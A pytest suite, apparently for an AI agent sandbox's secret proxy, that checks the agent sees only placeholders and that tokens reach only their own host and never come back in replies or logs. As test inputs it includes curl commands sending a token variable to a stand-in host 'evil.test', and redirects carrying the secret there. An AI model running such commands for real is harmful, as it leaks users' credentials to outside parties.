# SPDX-License-Identifier: MIT
"""INV-SECRETS-HOST-ONLY, INV-HOST-SCOPED, INV-NO-REFLECTION: secrets of hosts.

The origin sees a secret exactly where it may stand, and the agent never does.
"""
import base64
import json
import pathlib
import re
import secrets
import time
import urllib.parse

import agent
import checks
import egress
import harness
import origin as upstream
import pytest

# Bytes that JSON and URLs have to escape, and no two alike in a row.
SECRET = f'sk-proj-{secrets.token_hex(8)}/"\\+&={secrets.token_hex(8)}'
RAW = SECRET.encode()
OTHER = "ghp_" + secrets.token_hex(18)
PLAIN = "sk-" + secrets.token_urlsafe(24)  # nothing in it has to be escaped anywhere
ENV = {"TOKEN": SECRET, "OTHER": OTHER, "PLAIN": PLAIN}
EVERYWHERE = ("--secret-in", "TOKEN=header,basic,query,path,body")


@pytest.fixture
def place(user_place):
    """Root's runs go the same way outside the sandbox; test_egress.py takes it as both."""
    return user_place


def bound(origin, *more, host=egress.HOST, source="TOKEN"):
    """A run with a secret for the host."""
    return ("--secret", f"TOKEN=env:{source}@{host}", *egress.mapped(origin), *egress.trusted(origin), *more)


class Agent:
    """A run with its placeholders at hand."""

    def __init__(self, run):
        self.run = run
        self.placeholder = run.python("import os; result = os.environ['TOKEN']")
        self.placeholder_bytes = self.placeholder.encode()

    def ask(self, data, host=egress.HOST, port=443):
        return egress.ask(self.run, data, host, port)


class running:
    """`with running(place, ...) as it`: a run of the options, as an Agent."""

    def __init__(self, place, *options):
        self._run = agent.run(place, *options, env=ENV)

    def __enter__(self):
        return Agent(self._run.__enter__())

    def __exit__(self, *what):
        return self._run.__exit__(*what)


def forms(value):
    """Every form in which a secret might come back; base64 as far as the secret alone decides it."""
    raw = value.encode()
    found = {raw, raw.hex().encode(), raw.hex().upper().encode(), json.dumps(value)[1:-1].encode(),
             json.dumps(value)[1:-1].replace("/", "\\/").encode(),
             urllib.parse.quote(value, safe="").encode(), urllib.parse.quote(value).encode(),
             lower_hex(urllib.parse.quote(value, safe=""))}
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        for before in range(3):
            text = encode(b"\0" * before + raw).rstrip(b"=")
            found.add(text[(before * 8 + 5) // 6:-1])
    return found


def lower_hex(text):
    return re.sub("%..", lambda found: found[0].lower(), text).encode()


def assert_nowhere(data, value=SECRET):
    for form in forms(value):
        assert form not in data, form


# ---- the placeholder ----

def test_a_placeholder_has_the_shape_of_the_secret(place, https):
    with running(place, *bound(https)) as it:
        assert it.placeholder != SECRET and len(it.placeholder) == len(SECRET)
        assert it.placeholder.startswith("sk-proj-")
    with running(place, *bound(https)) as second:
        assert second.placeholder != it.placeholder


def test_a_secrets_host_is_an_allowed_host(place, https):
    with running(place, *bound(https)) as it:
        assert it.ask(egress.request()).status == 200


# ---- where it may stand ----

def basic(text):
    return "Basic " + base64.b64encode(text.encode()).decode()


PLACES = {
    "bearer": (lambda p: egress.request("GET", "/", f"Authorization: Bearer {p}"),
               lambda r: r.values("authorization") == [f"Bearer {SECRET}"]),
    "own field": (lambda p: egress.request("GET", "/", f"X-Api-Key: {p}"),
                  lambda r: r.values("x-api-key") == [SECRET]),
    "twice in a field": (lambda p: egress.request("GET", "/", f"X-Api-Key: {p},{p}{p}"),
                         lambda r: r.values("x-api-key") == [f"{SECRET},{SECRET}{SECRET}"]),
    "basic password": (lambda p: egress.request("GET", "/", f"Authorization: {basic('u:' + p)}"),
                       lambda r: r.values("authorization") == [basic(f"u:{SECRET}")]),
    "basic user": (lambda p: egress.request("GET", "/", f"Authorization: {basic(p + ':')}"),
                   lambda r: r.values("authorization") == [basic(f"{SECRET}:")]),
    "basic both": (lambda p: egress.request("GET", "/", f"authorization:  bAsIc  {basic(p + ':' + p)[6:]}"),
                   lambda r: r.values("authorization") == [basic(f"{SECRET}:{SECRET}")]),
    "query": (lambda p: egress.request("GET", f"/x?key={urllib.parse.quote(p, safe='')}&a=b"),
              lambda r: r.target == f"/x?key={urllib.parse.quote(SECRET, safe='')}&a=b"),
    "query, as it is typed": (lambda p: egress.request("GET", f"/x?key={p}&a=b"),
                              lambda r: r.target == f"/x?key={SECRET}&a=b"),
}
RAW_PLACES = {
    "query": (lambda p: egress.request("GET", f"/x?a=b&key={p}"), lambda r: r.target == f"/x?a=b&key={PLAIN}"),
    "path": (lambda p: egress.request("GET", f"/bot{p}/send"), lambda r: r.target == f"/bot{PLAIN}/send"),
    "header": (lambda p: egress.request("GET", "/", f"X: {p}"), lambda r: r.values("x") == [PLAIN]),
    "body": (lambda p: egress.request("POST", "/", body=p.encode()), lambda r: r.body == PLAIN.encode()),
}
WIDER = {
    "path": (lambda p: egress.request("GET", f"/bot{urllib.parse.quote(p, safe='')}/send"),
             lambda r: urllib.parse.unquote(r.target) == f"/bot{SECRET}/send"),
    "path, quoted as Python does": (lambda p: egress.request("GET", f"/bot{urllib.parse.quote(p)}/send"),
                                    lambda r: urllib.parse.unquote(r.target) == f"/bot{SECRET}/send"),
    "path, encoded in part": (lambda p: egress.request("GET", f"/bot{urllib.parse.quote(p, safe='&+')}/send"),
                              lambda r: urllib.parse.unquote(r.target) == f"/bot{SECRET}/send"),
    "form, as it is typed": (lambda p: egress.request("POST", "/", "Content-Type: application/x-www-form-urlencoded",
                                                      body=f"k={p}".encode()),
                             lambda r: r.body == f"k={SECRET}".encode()),
    "json": (lambda p: egress.request("POST", "/", "Content-Type: application/json",
                                      body=json.dumps({"a": p, "b": [p]}).encode()),
             lambda r: json.loads(r.body) == {"a": SECRET, "b": [SECRET]}),
    "json of another type": (lambda p: egress.request("POST", "/", "Content-Type: application/vnd.x+json; charset=utf-8",
                                                      body=json.dumps(p).encode()),
                             lambda r: json.loads(r.body) == SECRET),
    "form": (lambda p: egress.request("POST", "/", "Content-Type: application/x-www-form-urlencoded",
                                      body=urllib.parse.urlencode({"k": p, "l": "m"}).encode()),
             lambda r: urllib.parse.parse_qs(r.body.decode()) == {"k": [SECRET], "l": ["m"]}),
    "text": (lambda p: egress.request("POST", "/", "Content-Type: text/plain", body=f"<{p}>".encode()),
             lambda r: r.body == f"<{SECRET}>".encode()),
    "no type": (lambda p: egress.request("POST", "/", body=f"{p}{p}".encode()),
                lambda r: r.body == f"{SECRET}{SECRET}".encode()),
    "multipart": (lambda p: egress.request(
        "POST", "/", "Content-Type: multipart/form-data; boundary=b",
        body=f'--b\r\nContent-Disposition: form-data; name="k"\r\n\r\n{p}\r\n--b--\r\n'.encode()),
                  lambda r: f"\r\n\r\n{SECRET}\r\n--b--".encode() in r.body),
    "chunks": (lambda p: egress.request("POST", "/", "Transfer-Encoding: chunked") +
               b"".join(upstream.chunk(bytes([b])) for b in f"<{p}>".encode()) + upstream.LAST_CHUNK,
               lambda r: r.body == f"<{SECRET}>".encode()),
}


def assert_substituted(place, https, options, case, source="TOKEN"):
    make, is_right = case
    with running(place, *bound(https, *options, source=source)) as it:
        reply = it.ask(make(it.placeholder))
        assert reply.status == 200, reply.body
    request = https.requests[0]
    assert is_right(request), (request.head, request.body)
    assert it.placeholder.encode() not in https.received()


@pytest.mark.parametrize("case", PLACES)
def test_the_origin_sees_the_secret_where_it_may_stand(place, https, case):
    assert_substituted(place, https, (), PLACES[case])


@pytest.mark.parametrize("case", WIDER)
def test_the_origin_sees_the_secret_where_the_operator_says(place, https, case):
    assert_substituted(place, https, EVERYWHERE, WIDER[case])


@pytest.mark.parametrize("case", RAW_PLACES)
def test_a_secret_that_needs_no_escapes(place, https, case):
    assert_substituted(place, https, EVERYWHERE, RAW_PLACES[case], "PLAIN")


def test_a_body_is_substituted_wherever_it_is_cut(place, https):
    """A placeholder that comes in two pieces, at each byte of it."""
    with running(place, *bound(https, *EVERYWHERE)) as it:
        body = f"a{it.placeholder}b".encode()
        wire = egress.connect(it.run)
        for cut in range(1, len(body)):
            wire.send(egress.request("POST", "/", f"Content-Length: {len(body)}") + body[:cut])
            wire.send(body[cut:])
            assert wire.reply().status == 200
    assert {r.body for r in https.requests} == {f"a{SECRET}b".encode()}


def test_half_a_placeholder_at_the_end_of_a_body_goes_out(place, https):
    with running(place, *bound(https, *EVERYWHERE)) as it:
        half = it.placeholder_bytes[:-1]
        assert it.ask(egress.request("POST", "/", body=half)).status == 200
    assert https.requests[0].body == half


CLIENTS = {
    "curl": """curl -sS -H "Authorization: Bearer $TOKEN" https://api.test/""",
    "curl basic": """curl -sS -u "u:$TOKEN" https://api.test/""",
    "curl query": """curl -sS -G --data-urlencode "k=$TOKEN" https://api.test/""",
    "http.client json": """python3 -c '
import http.client, json, os
c = http.client.HTTPSConnection("api.test")
c.request("POST", "/", json.dumps({"k": os.environ["TOKEN"]}), {"Content-Type": "application/json"})
print(c.getresponse().read().decode())'""",
    "curl form": """curl -sS --data-urlencode "k=$TOKEN" https://api.test/""",
    "curl multipart": """curl -sS -F "k=$TOKEN" https://api.test/""",
    "wget": """wget -q -O - --header "Authorization: Bearer $TOKEN" https://api.test/""",
    "wget basic": """wget -q -O - --auth-no-challenge --user u --password "$TOKEN" https://api.test/""",
    "urllib": """python3 -c '
import os, urllib.request
r = urllib.request.Request("https://api.test/", headers={"X-Api-Key": os.environ["TOKEN"]})
print(urllib.request.urlopen(r).read().decode())'""",
}


@pytest.mark.parametrize("client", CLIENTS)
def test_an_unmodified_client_sends_it_and_reads_none_of_it(place, https, client):
    """The origin sends everything back as it came."""

    def script(connection):
        for request in connection.requests():
            connection.answer(request.head + request.raw_body, fields=[("X-Echo", request.line)])

    https.script = script
    done = egress.bash(place, CLIENTS[client] + "; env", (*bound(https), *EVERYWHERE), env=ENV)
    assert done.returncode == 0, done
    assert_nowhere(done.stdout.encode() + done.stderr.encode())
    received = https.received()
    assert any(form in received for form in forms(SECRET) | {lower_hex(urllib.parse.quote(SECRET, safe=""))})


def test_two_secrets_of_two_hosts(place, https):
    options = (*bound(https), "--secret", "OTHER=env:OTHER@other.test", *egress.mapped(https, "other.test"))
    with running(place, *options) as it:
        other = it.run.python("import os; result = os.environ['OTHER']")
        assert it.ask(egress.request("GET", "/", f"X-Key: {it.placeholder}")).status == 200
        data = egress.request("GET", "/", f"X-Key: {other}", host="other.test")
        assert it.ask(data, "other.test").status == 200
        for data, host in ((egress.request("GET", "/", f"X-Key: {other}"), "api.test"),
                           (egress.request("GET", "/", f"X-Key: {it.placeholder}", host="other.test"),
                            "other.test")):
            egress.assert_refused(it.ask(data, host), 403, "placeholder_misplaced")
    assert [r.values("x-key") for r in https.requests] == [[SECRET], [OTHER]]


# ---- where it may not ----

MISPLACED = {
    **{name: (lambda p, name=name: egress.request("GET", "/", f"{name}: x{p}")) for name in (
        "User-Agent", "Referer", "Origin", "Cookie", "X-Forwarded-For", "X-Forwarded-Anything", "X-Request-Id",
        "Via", "From", "Accept", "Accept-Language", "traceparent", "Content-Type", "COOKIE")},
    "path": lambda p: egress.request("GET", f"/{urllib.parse.quote(p, safe='')}/x"),
    "path, as it is typed": lambda p: egress.request("GET", f"/{p}/x"),
    "path, encoded in part": lambda p: egress.request("GET", f"/{urllib.parse.quote(p, safe='&+')}/x"),
    "json body": lambda p: egress.request("POST", "/", "Content-Type: application/json",
                                          body=json.dumps({"a": p}).encode()),
    "form body": lambda p: egress.request("POST", "/", "Content-Type: application/x-www-form-urlencoded",
                                          body=urllib.parse.urlencode({"k": p}).encode()),
    "text body": lambda p: egress.request("POST", "/", body=p.encode()),
    "chunked body": lambda p: egress.request("POST", "/", "Transfer-Encoding: chunked") +
                    b"".join(upstream.chunk(bytes([b])) for b in p.encode()) + upstream.LAST_CHUNK,
}


@pytest.mark.parametrize("case", MISPLACED)
def test_a_misplaced_placeholder_is_refused(place, https, case):
    with running(place, *bound(https)) as it:
        reply = it.ask(MISPLACED[case](it.placeholder))
        egress.assert_refused(reply, 403, "placeholder_misplaced")
        checks.wait_until(lambda: "placeholder_misplaced" in json.dumps(it.run.records()))
        # Control: without it the same request is let through.
        assert it.ask(MISPLACED[case]("application/json")).status == 200
    received = https.received()
    assert_nowhere(received)
    assert it.placeholder_bytes not in received


def test_a_placeholder_deep_in_a_body_never_leaves(place, https):
    """What was sent before it may be there already: the request is cut off, not ended."""
    with running(place, *bound(https)) as it:
        wire = egress.connect(it.run)
        size = 1 << 20
        wire.send(egress.request("POST", "/", f"Content-Length: {size + len(SECRET)}"))
        for _ in range(16):
            wire.send(b"x" * (size // 16))
        wire.send(it.placeholder_bytes)
        egress.assert_refused(wire.reply(), 403, "placeholder_misplaced")
        checks.wait_until(lambda: "placeholder_misplaced" in json.dumps(it.run.records()))
    received = https.received()
    assert it.placeholder_bytes not in received
    assert_nowhere(received)


@pytest.mark.parametrize("host", ["other.test", "sub.api.test", "evil.test"])
def test_a_placeholder_to_another_host_is_refused(place, https, host):
    options = (*bound(https, *EVERYWHERE), *egress.allowed(https, host=host))
    with running(place, *options) as it:
        for make, _ in (*PLACES.values(), *WIDER.values()):
            data = make(it.placeholder).replace(b"Host: api.test", f"Host: {host}".encode())
            egress.assert_refused(it.ask(data, host), 403, "placeholder_misplaced")
        # Control: the host itself is allowed.
        assert it.ask(egress.request(host=host), host).status == 200
    assert len(https.requests) == 1
    assert_nowhere(https.received())


def test_a_wildcard_is_for_names_below_it(place, https):
    options = ("--secret", "TOKEN=env:TOKEN@*.api.test", *egress.mapped(https, "sub.api.test"),
               *egress.mapped(https, "api.test"), *egress.trusted(https))
    with running(place, *options) as it:
        for host in ("sub.api.test", "api.test"):
            data = egress.request("GET", "/", f"X-Key: {it.placeholder}", host=host)
            assert it.ask(data, host).status == 200
        data = egress.request("GET", "/", f"X-Key: {it.placeholder}", host="xapi.test")
        egress.assert_refused(it.ask(data, "xapi.test"), 403, "host_not_allowed")
    assert [r.values("x-key") for r in https.requests] == [[SECRET]] * 2


def test_a_secret_does_not_go_out_in_clear(place, origin):
    """Cleartext to a host of the secret's, mapped or not, needs more than that."""
    options = ("--secret", "TOKEN=env:TOKEN@plain.test", "--allow-net", "plain.test",
               *egress.mapped(origin, "plain.test", 80))
    with running(place, *options) as it:
        wire = it.run.connect("plain.test", 80)
        reply = wire.ask(egress.request("GET", "/", f"X-Key: {it.placeholder}", host="plain.test"))
        egress.assert_refused(reply, 403, "placeholder_misplaced")
        assert wire.ask(egress.request(host="plain.test")).status == 200  # control
    assert_nowhere(origin.received())


def test_a_placeholder_in_a_request_trailer_goes_nowhere(place, https):
    with running(place, *bound(https, *EVERYWHERE)) as it:
        data = egress.request("POST", "/", "Transfer-Encoding: chunked", "Trailer: X-Key") + (
            upstream.chunk(b"x") + b"0\r\nX-Key: " + it.placeholder_bytes + b"\r\n\r\n")
        it.ask(data)
    assert it.placeholder_bytes not in https.received()
    assert_nowhere(https.received())


# ---- injection ----

INJECT = ("--secret-inject", "TOKEN=Authorization: Bearer {value}")


def test_an_injected_header_needs_no_placeholder(place, https):
    with running(place, *bound(https, *INJECT)) as it:
        assert it.ask(egress.request()).status == 200
        lines = ("Authorization: Bearer mine", "AUTHORIZATION: Basic eDp5", f"X: {it.placeholder}")
        assert it.ask(egress.request("GET", "/", *lines)).status == 200
    for request in https.requests:
        assert request.values("authorization") == [f"Bearer {SECRET}"]


def test_an_injected_header_is_for_the_secrets_hosts_only(place, https):
    options = (*bound(https, *INJECT), *egress.allowed(https, host="other.test"))
    with running(place, *options) as it:
        assert it.ask(egress.request(host="other.test"), "other.test").status == 200
    assert https.requests[0].values("authorization") == []
    assert_nowhere(https.received())


def test_an_injected_header_does_not_go_out_in_clear(place, origin):
    options = ("--secret", "TOKEN=env:TOKEN@plain.test", *INJECT, "--allow-net", "plain.test",
               *egress.mapped(origin, "plain.test", 80))
    with running(place, *options) as it:
        wire = it.run.connect("plain.test", 80)
        wire.ask(egress.request(host="plain.test"))
    assert_nowhere(origin.received())


# ---- what comes back ----

def come_back(place, https, data, method="GET", ask=None):
    """What the agent sees of a reply, every byte of it up to the connection's end."""

    def script(connection):
        connection.request()
        for piece in [data] if isinstance(data, bytes) else data:
            connection.send(piece)
        connection.end()

    https.script = script
    with running(place, *bound(https)) as it:
        wire = egress.connect(it.run)
        wire.send((ask or egress.request)(method, "/", f"X-Key: {it.placeholder}", "Connection: close"))
        try:
            seen = wire.rest()
        except ConnectionResetError:
            seen = b""
        it.seen = seen
    assert https.requests[0].values("x-key") == [SECRET]
    return it


ECHOES = {
    "raw": RAW,
    "json": json.dumps({"a": SECRET}).encode(),
    "json slashes": json.dumps({"a": SECRET}).replace("/", "\\/").encode(),
    "percent": urllib.parse.quote(SECRET, safe="").encode(),
    "percent lower": lower_hex(urllib.parse.quote(SECRET, safe="")),
    "percent but slashes": urllib.parse.quote(SECRET, safe="/").encode(),
    "percent as JavaScript": urllib.parse.quote(SECRET, safe="!'()*-._~").encode(),
    "hex": RAW.hex().encode(),
    "HEX": RAW.hex().upper().encode(),
    **{f"base64 {n}": base64.b64encode(b"u:p"[:n] + RAW) for n in range(3)},
    **{f"base64 {n} and more": base64.b64encode(b"u:p"[:n] + RAW + b"after") for n in range(3)},
    **{f"base64url {n}": base64.urlsafe_b64encode(b"u:p"[:n] + RAW).rstrip(b"=") for n in range(3)},
}
OTHER_ECHOES = {
    "json unicode": json.dumps({"a": SECRET}).replace("&", "\\u0026").replace("=", "\\u003d").encode(),
    "json as Go": json.dumps({"a": SECRET}).replace("&", "\\u0026").encode(),
}


@pytest.mark.parametrize("form", ECHOES)
@pytest.mark.parametrize("where", ["body", "chunks", "header", "trailer", "event"])
def test_a_secret_does_not_come_back(place, https, form, where):
    echo = ECHOES[form]
    data = {
        "body": upstream.reply(b"<" + echo + b">" + echo + b"END"),
        "chunks": [upstream.CHUNKED, *(upstream.chunk(bytes([b])) for b in echo), upstream.chunk(b"END"),
                   upstream.LAST_CHUNK],
        "header": b"HTTP/1.1 200 OK\r\nX-Echo: a " + echo + b"\r\nX-Kept: 1\r\nContent-Length: 3\r\n\r\nEND",
        "trailer": upstream.CHUNKED + upstream.chunk(b"END") + b"0\r\nX-Echo: " + echo + b"\r\n\r\n",
        "event": [upstream.CHUNKED, upstream.chunk(b"data: " + echo[:9]), upstream.chunk(echo[9:] + b"\n\nEND"),
                  upstream.LAST_CHUNK],
    }[where]
    it = come_back(place, https, data)
    assert b"END" in it.seen, it.seen
    unchunked = it.seen
    if where in ("chunks", "event"):
        unchunked = b"".join(it.seen.split(b"\r\n\r\n", 1)[1].split(b"\r\n")[1::2])
    assert echo not in unchunked
    assert_nowhere(unchunked)
    assert_nowhere(it.seen)


@pytest.mark.parametrize("form", OTHER_ECHOES)
def test_a_secret_does_not_come_back_as_other_encoders_write_it(place, https, form):
    it = come_back(place, https, upstream.reply(OTHER_ECHOES[form] + b"END"))
    assert OTHER_ECHOES[form] not in it.seen


def test_what_comes_back_is_the_placeholder_and_as_long(place, https):
    it = come_back(place, https, upstream.reply(b"<" + RAW + b">END"))
    assert it.seen.endswith(b"<" + it.placeholder_bytes + b">END")


def test_a_secret_does_not_come_back_however_it_is_cut(place, https):
    """Cut in two at every byte; each half is with the agent's side before the next is sent."""
    def script(connection):
        for request in connection.requests():
            cut = int(request.target[1:])
            connection.send(upstream.CHUNKED + upstream.chunk(b"<" + RAW[:cut]))
            time.sleep(0.01)
            connection.send(upstream.chunk(RAW[cut:] + b">") + upstream.LAST_CHUNK)

    https.script = script
    with running(place, *bound(https)) as it:
        wire = egress.connect(it.run)
        for cut in range(1, len(RAW)):
            reply = wire.ask(egress.request("GET", f"/{cut}", f"X-Key: {it.placeholder}"))
            assert reply.body == b"<" + it.placeholder_bytes + b">"


@pytest.mark.parametrize("data", [
    b"HTTP/1.1 200 " + RAW + b"\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 103 Early\r\nLink: <" + RAW + b">\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/" + RAW + b"\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nX-" + OTHER.encode() + b": " + RAW + b"\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: " + RAW + b"\r\n\r\n", RAW + b"\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n" + RAW,
    b"HTTP/1.1 401 No\r\nWWW-Authenticate: Bearer error=" + RAW + b"\r\nContent-Length: 0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\n\r\n" + RAW + RAW[:-1],
], ids=["reason", "interim", "location", "name", "length", "garbage", "cut", "challenge", "to the end"])
def test_a_secret_does_not_come_back_by_other_ways(place, https, data):
    it = come_back(place, https, data)
    assert_nowhere(it.seen)


def serve_ranges(connection):
    """A resource that has the secret in it, byte by byte to whoever asks so."""
    for request in connection.requests():
        wanted = request.values("range")
        if not wanted:
            connection.answer(RAW)
            continue
        first, last = (int(n) for n in wanted[0].removeprefix("bytes=").split("-"))
        connection.answer(RAW[first:last + 1], 206, [("Content-Range", f"bytes {first}-{last}/{len(RAW)}")])


def test_a_secret_does_not_come_back_in_ranges(place, https):
    https.script = serve_ranges
    with running(place, *bound(https)) as it:
        wire = egress.connect(it.run)
        seen = b""
        for at in range(len(RAW)):
            reply = wire.ask(egress.request("GET", "/", f"X-Key: {it.placeholder}", f"Range: bytes={at}-{at}"))
            seen += reply.body if reply.status == 206 else b""
        assert seen != RAW


def test_a_reply_of_another_host_is_scrubbed_too(place, https):
    """Whoever has got the secret from elsewhere must not hand it to the agent."""
    https.script = lambda connection: [connection.answer(RAW) for _ in connection.requests()]
    with running(place, *bound(https), *egress.allowed(https, host="other.test")) as it:
        reply = it.ask(egress.request(host="other.test"), "other.test")
        assert reply.body == it.placeholder_bytes


def test_an_event_is_not_held_back(place, https):
    """What only looks like the beginning of a secret waits for more; the rest is there at once."""
    go_on = []

    def script(connection):
        connection.request()
        connection.send(upstream.CHUNKED + upstream.chunk(b"data: one\n\n"))
        checks.wait_until(lambda: go_on)
        connection.send(upstream.chunk(b"data: " + PLAIN[:5].encode()) + upstream.chunk(b"\n\n") + upstream.LAST_CHUNK)
        connection.wait_for_end()

    https.script = script
    with running(place, *bound(https, source="PLAIN")) as it:
        wire = egress.connect(it.run)
        wire.send(egress.request("GET", "/", f"X-Key: {it.placeholder}"))
        assert b"data: one\n\n" in wire.until(b"\n\n\r\n")
        go_on.append(True)
        assert PLAIN[:5].encode() in wire.until(b"0\r\n\r\n")


# ---- who has it ----

SEARCHED = ("environ", "cmdline")


def need_memory():
    if not harness.IS_ROOT:
        pytest.skip("needs root to read the memory of processes that cannot be dumped")
    if "asan" in harness.BUILD.name:
        pytest.skip("a sanitizer keeps copies of the environment, and hides no process")


def secret_options(place, source):
    path = place.write("secret/token", SECRET + "\n", 0o600)
    given = {"env": "env:TOKEN", "file": f"file:{path}", "exec": f"exec:cat {path}"}[source]
    return ("--secret", f"TOKEN={given}@api.test"), ENV if source == "env" else {}


@pytest.mark.parametrize("source", ["env", "file", "exec"])
def test_a_secret_is_in_no_memory_but_the_keepers(place, https, source):
    need_memory()
    answer = []

    def script(connection):
        for _ in connection.requests():
            checks.wait_until(lambda: answer)
            connection.answer(RAW)

    https.script = script
    option, env = secret_options(place, source)
    with agent.run(place, *option, *egress.mapped(https), *egress.trusted(https), "-v", env=env) as run:
        placeholder = run.python("import os; result = os.environ['TOKEN']")
        wire = egress.connect(run)
        wire.send(egress.request("GET", "/?a=1", f"X-Key: {placeholder}"))
        assert https.next_request().values("x-key") == [SECRET]
        pids = run.pids()
        assert set(pids) == {"supervisor", "keeper", "gate", "init", "agent"}
        assert {who for who, pid in pids.items() if agent.is_in_memory(RAW, pid)} == {"keeper"}
        answer.append(True)
        assert wire.reply().body == placeholder.encode()
        assert {who for who, pid in pids.items() if agent.is_in_memory(RAW, pid)} == {"keeper"}
        for name in SEARCHED:
            found = {who for who, pid in pids.items() if RAW in pathlib.Path(f"/proc/{pid}/{name}").read_bytes()}
            assert not found, name


def test_neither_log_nor_stderr_nor_result_hold_a_secret(place, https):
    https.script = lambda connection: [connection.answer(RAW + r.head) for r in connection.requests()]
    place.install()
    code = """curl -s -H "X-Key: $TOKEN" "https://api.test/?k=$TOKEN"; curl -s -A "$TOKEN" https://api.test/
python3 -c '
import os, urllib.parse, urllib.request
try: urllib.request.urlopen("https://api.test/" + urllib.parse.quote(os.environ["TOKEN"]))
except OSError: pass'
curl -s -H "X-Key: $TOKEN" https://evil.test/; env"""
    done = place.run("bash", "-c", code, options=(*bound(https), "-v", "--json"), env=ENV)
    audit = place.home / ".local/state/warder/audit.jsonl"
    assert_nowhere(done.stdout.encode() + done.stderr.encode() + audit.read_bytes())
    assert len(https.requests) == 1 and RAW in https.received()  # control


def test_the_variable_of_a_secret_is_not_passed_on_even_when_asked(place, https):
    done = egress.bash(place, "env", (*bound(https), "--env", "TOKEN"), env=ENV)
    assert_nowhere(done.stdout.encode() + done.stderr.encode())
    options = ("--secret", "NAME=env:TOKEN@api.test", "--env", "TOKEN", *egress.mapped(https))
    done = egress.bash(place, "env", options, env=ENV)
    assert_nowhere(done.stdout.encode() + done.stderr.encode())


def test_a_file_with_a_secret_that_the_agent_could_read_is_refused(place, https):
    place.write("workspace/token", SECRET)
    place.install()
    options = ("--secret", f"TOKEN=file:{place.workspace}/token@api.test", *egress.mapped(https))
    done = place.run(*checks.LEAVE_MARKER, options=options)
    assert done.returncode == 125 and not (place.workspace / checks.MARKER).exists(), done
    checks.assert_one_line(done.stderr, "token")


@pytest.mark.parametrize("given, words", [
    ("TOKEN=env:NOT_SET@api.test", "NOT_SET"), ("TOKEN=env:SHORT@api.test", "shorter"),
    ("TOKEN=env:LINES@api.test", "TOKEN"), ("TOKEN=env:TOKEN@*", "TOKEN"), ("TOKEN=env:TOKEN@", "TOKEN"),
    ("TOKEN=env:TOKEN", "--secret"), ("1TOKEN=env:TOKEN@api.test", "--secret"), ("TO-KEN=env:TOKEN@api.test", "--secret"),
    ("TOKEN=file:/nowhere@api.test", "/nowhere"), ("TOKEN=exec:false@api.test", "failed")])
def test_a_secret_that_cannot_be_is_a_run_not_started(place, given, words):
    place.install()
    env = {**ENV, "SHORT": "x", "LINES": f"{SECRET}\r\nX: 1"}
    done = place.run(*checks.LEAVE_MARKER, options=("--secret", given), env=env)
    assert done.returncode == 125, done
    checks.assert_one_line(done.stderr, words)
    assert_nowhere(done.stderr.encode())
    assert not (place.workspace / checks.MARKER).exists()


def test_a_secret_given_in_place_of_its_source_is_not_repeated(place):
    place.install()
    for given in (f"TOKEN={SECRET}@api.test", f"{SECRET}"):
        done = place.run("true", options=("--secret", given), env=ENV)
        assert done.returncode == 125
        assert_nowhere(done.stderr.encode())
